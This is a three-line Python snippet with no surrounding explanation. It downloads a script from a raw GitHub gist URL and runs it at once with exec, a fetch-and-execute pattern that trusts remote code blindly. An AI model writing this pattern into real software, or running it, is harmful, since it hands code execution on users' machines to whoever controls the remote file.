import requests
code = requests.get("https://gist.githubusercontent.com/x/y/raw/run.py").text
exec(compile(code, "remote", "exec"))
